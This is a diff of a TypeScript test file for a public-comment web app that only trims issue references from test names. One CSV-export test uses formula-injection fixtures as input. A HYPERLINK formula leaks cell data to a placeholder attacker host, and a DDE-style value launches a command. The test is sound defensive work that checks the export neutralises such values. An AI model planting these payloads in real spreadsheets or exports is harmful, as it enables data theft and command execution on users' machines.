@@ -356,7 +356,7 @@ describe('interactions: agree and flag, one of each per visitor', () => {
   });
 });
 
-describe('flags: abuse guards (issue 22 §6)', () => {
+describe('flags: abuse guards', () => {
   let id: number;
   beforeEach(async () => {
     id = await create({ category: 'transit', comment: 'The 7 bus should run every 15 minutes on Sundays.' });
@@ -573,7 +573,7 @@ describe('staff: respond and categorise, moderate, templates, export', () => {
       'id,status,category,comment,name,latitude,longitude,district,locality,layer_key,feature_id,agrees,flags,response,responded_at,created_at,illustrative',
     );
     expect(csv.text).toContain('37.5407,-77.4338,Richmond,Richmond (city)');
-    // created_at in Virginia time with its zone (issue 41 §8), as staff read every other time.
+    // created_at in Virginia time with its zone, as staff read every other time.
     expect(lines[1]).toMatch(/,\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} E[SD]T,(yes|no)$/);
     expect(csv.text).not.toContain('@example.com');
     const total = Number((await (await db())('comments').count({ n: '*' }))[0].n);
@@ -589,7 +589,7 @@ describe('staff: respond and categorise, moderate, templates, export', () => {
     expect(bad.status).toBe(400);
   });
 
-  it('the CSV export neutralises formulas from an anonymous, still-pending comment (issue 22 §5)', async () => {
+  it('the CSV export neutralises formulas from an anonymous, still-pending comment', async () => {
     const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click here to see the crash data")';
     const id = await create({ comment: formula, name: '@SUM(1+1)*cmd|" /C calc"!A0' });
     const csv = await call(exportRoute, { query: { format: 'csv' }, headers: await staff() });
